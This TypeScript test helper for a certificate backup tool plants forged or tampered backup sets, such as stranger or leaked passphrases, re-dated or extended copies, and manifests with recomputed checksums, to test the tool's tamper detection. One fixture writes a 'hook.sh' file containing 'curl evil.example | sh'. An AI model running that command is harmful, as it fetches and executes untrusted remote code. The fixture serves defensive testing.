import { createHash } from 'node:crypto';
import { certificateIssuer } from '../../src/adapters/crypto/certificate/certificate-issuer.ts';
import { setArchives } from '../../src/adapters/set-format/set-archives.ts';
import {
  folderNameFor,
  formatBackupName,
  timeFolder,
  type BackupName,
} from '../../src/domain/backup/backup-name.ts';
import { formatChecksums } from '../../src/domain/backup/backup-set.ts';
import type { Secret } from '../../src/domain/secret.ts';
import { sealKey } from '../../src/use-cases/store/seal-pair.ts';
import { stageSet, SUPERSEDES_NOTHING, type SetPair } from '../../src/use-cases/store/stage-set.ts';
import { NO_FILES } from '../../src/use-cases/store/user-files.ts';
import { contentOf, memorySetStaging, type SetContent } from '../../__tests__/fakes/memory-set-staging.ts';
import { cheapKeyring } from '../../__tests__/fixtures/cheap-keyring.ts';
import type { Installed } from './installed.ts';
import { STRANGERS_PASSPHRASE } from './passphrases.ts';
import { REPOSITORY } from './play-run.ts';
import type { Blob, StoreKind } from './shelves.ts';

/** What somebody puts into a store who has no passphrase that counts. */
export const PLANTED_KINDS = [
  /** A whole set of their own, under their own passphrase. */
  'strangers-set',
  /** The same under the passphrase before this one, which has leaked. */
  'leaked-set',
  /** Certificates alone, without a proof, named as a public set. */
  'public-set',
  /** A genuine set under the date of today. */
  're-dated',
  /** The oldest genuine set, whose manifest says now that its certificates are of today, with sums that are right. */
  'changed',
  /** A genuine set with one file more. */
  'extended',
  /** A genuine set, once more under its own name. */
  'again',
  /** A genuine set under the same passphrase, of another repository. */
  'other-repository',
] as const;
export type PlantedKind = (typeof PLANTED_KINDS)[number];

/** Puts a set into a store. Returns the fingerprints of certificates that are not ours; nothing is planted if there is nothing to copy. */
export async function plant(
  kind: PlantedKind,
  store: StoreKind,
  installed: Installed,
): Promise<readonly string[]> {
  const time = new Date(Math.floor(installed.now.getTime() / 1000) * 1000);
  const name: BackupName = { base: installed.artifactName, time, isPublic: false, attempt: 1 };
  switch (kind) {
    case 'strangers-set':
      return plantOwn(kind, store, name, STRANGERS_PASSPHRASE, installed);
    case 'leaked-set':
      return plantOwn(kind, store, name, installed.previousPassphrase, installed);
    case 'public-set':
      return plantOwn(kind, store, { ...name, isPublic: true }, null, installed);
    case 'other-repository':
      return plantOwn(kind, store, name, installed.passphrase, installed);
    case 're-dated':
    case 'changed':
    case 'extended':
    case 'again':
      plantCopy(kind, store, name, installed);
      return [];
  }
}

function plantCopy(
  kind: 're-dated' | 'changed' | 'extended' | 'again',
  store: StoreKind,
  today: BackupName,
  installed: Installed,
): void {
  const genuine = installed.shelves
    .of(store)
    .filter((blob) => blob.base === installed.artifactName && isGenuine(blob));
  // An old one may hold another pair, which would roll the identity back.
  const copied = genuine.at(kind === 'again' || kind === 'changed' ? 0 : -1);
  if (copied === undefined) return;
  const name = kind === 're-dated' || kind === 'changed' ? today : copied.name;
  put(kind, store, name, contentOfCopy(kind, name, copied.stored), installed);
}

function isGenuine({ content, stored, planted, name }: Blob): boolean {
  return content === stored && planted === undefined && !name.isPublic;
}

function contentOfCopy(kind: PlantedKind, name: BackupName, content: SetContent): SetContent {
  const copy = new Map(content);
  if (kind === 'extended') copy.set('files/hook.sh', Buffer.from('curl evil.example | sh\n'));
  if (kind !== 'changed') return copy;
  const manifest = JSON.parse(Buffer.from(content.get('manifest.json') ?? []).toString('utf8')) as {
    certificates: { since: string }[];
  };
  const createdAt = `${name.time.toISOString().slice(0, 19)}Z`;
  const certificates = manifest.certificates.map((record) => ({ ...record, since: createdAt }));
  const changed = { ...manifest, name: formatBackupName(name), createdAt, certificates };
  copy.set('manifest.json', Buffer.from(JSON.stringify(changed)));
  copy.set('SHA256SUMS', Buffer.from(sumsOf(copy)));
  return copy;
}

function sumsOf(content: SetContent): string {
  return formatChecksums(
    [...content].map(([path, bytes]) => ({ path, sha256: createHash('sha256').update(bytes).digest('hex') })),
  );
}

/** A whole set with a pair of the stranger's own for every certificate. */
async function plantOwn(
  kind: PlantedKind,
  store: StoreKind,
  name: BackupName,
  passphrase: Secret | null,
  installed: Installed,
): Promise<readonly string[]> {
  const keyring = cheapKeyring(passphrase);
  const pairs: SetPair[] = [];
  for (const commonName of installed.installation.certificates) {
    const pair = await certificateIssuer.issue(installed.specificationOf(commonName), name.time);
    pairs.push({
      name: installed.isList ? folderNameFor(commonName) : null,
      certificate: pair.certificate,
      sealedKey: await sealKey(pair, keyring),
      since: name.time,
    });
  }
  const isOfOther = kind === 'other-repository';
  const run = {
    repository: isOfOther ? 'octo-org/other' : REPOSITORY.name,
    repositoryId: isOfOther ? 7 : REPOSITORY.id,
    ref: installed.defaultRef,
    isDefaultBranch: true,
    event: 'schedule',
    runId: '1',
    runAttempt: '1',
    commit: 'b'.repeat(40),
    url: '',
  };
  const { staged } = await stageSet(
    { action: 'keep', pairs, supersedes: SUPERSEDES_NOTHING, specification: null, userFiles: NO_FILES },
    { kind: store === 'cache' ? 'cache' : 'backup', backupName: name },
    {
      staging: memorySetStaging(),
      archives: setArchives,
      keyring,
      run: { readRecord: () => Promise.resolve(run) },
      toolVersion: '0.0.0',
    },
  );
  put(kind, store, name, contentOf(staged), installed);
  await staged.discard();
  return pairs.map(({ certificate }) => certificate.fingerprint);
}

function put(
  planted: PlantedKind,
  store: StoreKind,
  name: BackupName,
  content: SetContent,
  { shelves, now, defaultRef, installation, artifactName }: Installed,
): void {
  const text = formatBackupName(name);
  const count = shelves.all.length;
  const place =
    store === 'artifacts' || store === 'release'
      ? text
      : store === 'cache'
        ? `${text}/0-${count}`
        : timeFolder({ time: name.time, attempt: 1000 + count });
  const expiresAt =
    store === 'artifacts' ? new Date(now.getTime() + installation.retentionDays * 86_400_000) : null;
  shelves.put(
    store,
    { place, base: artifactName, name, runId: 0, ref: defaultRef, expiresAt, planted },
    content,
    now,
  );
}
